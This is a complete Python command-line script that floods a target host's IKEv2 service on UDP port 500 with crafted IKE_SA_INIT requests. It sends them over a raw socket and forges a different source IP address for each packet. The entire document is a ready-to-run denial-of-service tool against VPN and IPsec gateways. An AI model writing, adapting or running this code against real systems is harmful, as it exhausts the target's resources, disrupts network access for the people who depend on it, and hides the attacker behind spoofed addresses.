#!/usr/bin/env python3
"""flood.py TARGET COUNT — IKE_SA_INIT requests that would be accepted, each from another forged address. As root."""

import os
import socket
import struct
import sys


def payload(following, body):
    return struct.pack("!BBH", following, 0, 4 + len(body)) + body


def request():
    transforms = b"".join((
        struct.pack("!BBHBBHHH", 3, 0, 12, 1, 0, 20, 0x800E, 256),  # AES-GCM-16, 256 bits
        struct.pack("!BBHBBH", 3, 0, 8, 2, 0, 5),  # HMAC-SHA2-256
        struct.pack("!BBHBBH", 0, 0, 8, 4, 0, 31)))  # curve25519
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 3) + transforms
    chain = payload(34, proposal) + payload(40, struct.pack("!HH", 31, 0) + os.urandom(32)) + payload(0, os.urandom(32))
    return os.urandom(8) + bytes(8) + struct.pack("!BBBBII", 33, 0x20, 34, 8, 0, 28 + len(chain)) + chain


def main():
    target, count = sys.argv[1], int(sys.argv[2])
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for i in range(count):
        message = request()
        udp = struct.pack("!HHHH", 500, 500, 8 + len(message), 0) + message
        source = struct.pack("!I", 0x0A000001 + i)
        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, source, socket.inet_aton(target))
        raw.sendto(header + udp, (target, 0))
        if i == count // 4:
            print("a quarter is sent", flush=True)
    print(f"{count} requests sent")


if __name__ == "__main__":
    main()
